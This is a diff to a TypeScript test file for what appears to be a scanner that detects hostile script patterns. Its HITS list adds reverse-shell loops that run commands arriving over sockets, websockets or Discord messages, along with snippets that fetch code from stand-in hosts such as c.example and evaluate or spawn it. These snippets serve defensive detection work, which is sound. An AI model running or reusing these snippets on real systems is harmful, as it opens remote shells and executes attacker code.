@@ -53,12 +53,39 @@ const HITS: readonly (readonly [ScriptLanguage, (typeof ASKED)[number], string])
   ['ruby', 'answer_evaluated', "t = Net::HTTP.get(URI(u))\nFile.write('t.rb', t)\neval(File.read('t.rb'))"],
   ['groovy', 'answer_evaluated', 'def b = new URL(u).bytes\nnew File(p).bytes = b\n"sh $p".execute()\nsh "sh $p"'],
   ['ruby', 'runs_what_it_fetched', "File.binwrite('/tmp/.x', URI.open(u).read)\nspawn('/tmp/.x')"],
+  ['ruby', 'runs_commands_from_socket', "s = TCPSocket.new('c', 443)\nwhile l = s.gets\n  s.print(`#{l}`)\nend"],
+  ['perl', 'runs_commands_from_socket', 'my $s = IO::Socket::INET->new("c:443");\nwhile (<$s>) { print $s `$_` }'],
+  ['r', 'answer_evaluated', 'source("http://files.example/a.R")'],
+  ['javascript', 'answer_evaluated', 'const r = await fetch(u);\n(0, eval)(await r.text())'],
+  ['javascript', 'answer_evaluated', "dns.resolveTxt('c.example', (e, r) => vm.runInThisContext(r.join('')))"],
+  [
+    'javascript',
+    'runs_commands_from_socket',
+    "const n = require('net').connect(443, 'c');\nn.on('data', (d) => n.write(execSync(d.toString())))",
+  ],
+  [
+    'python',
+    'runs_commands_from_socket',
+    'async with websockets.connect(u) as w:\n  async for x in w:\n    await w.send(subprocess.getoutput(x))',
+  ],
+  [
+    'python',
+    'runs_commands_from_socket',
+    'c = discord.Client()\nasync def on_message(m):\n  subprocess.check_output(m.content[1:], shell=True)',
+  ],
+  ['php', 'runs_what_it_fetched', "<?php copy('http://files.example/a', '/tmp/.a'); exec('/tmp/.a &');"],
+  ['shell', 'answer_evaluated', 'BEGIN { while (("curl -s http://c.example/a" | getline l) > 0) system(l) }'],
+  ['source', 'answer_evaluated', 'Runtime.getRuntime().exec(arrayOf("sh", "-c", URL(u).readText()))'],
 ]
 for (const [language, id, text] of HITS)
   test(`${language}: ${id}: ${text.split('\n')[0]}`, () =>
     assert.ok(found(language, text).includes(id), String(found(language, text))))
 
 const MISSES: readonly (readonly [ScriptLanguage, string])[] = [
+  ['javascript', "const r = await fetch(u)\nexec('git status', (e, out) => fetch(v, { method: 'POST', body: out }))"],
+  ['javascript', "const w = new WebSocket(u)\nw.on('message', (m) => console.log(m))\nexecSync('npm ci')"],
+  ['python', 'c = discord.Client()\nasync def on_message(m):\n  subprocess.run(["systemctl", "restart", "app"])'],
+  ['perl', 'while (<$log>) { print `date` }'],
   [
     'source',
     'let r = reqwest::blocking::get(u).unwrap().text().unwrap();\nfs::write("/etc/a/config.toml", &r).unwrap();\nCommand::new("systemctl").args(["reload", "a"]).status().unwrap();',
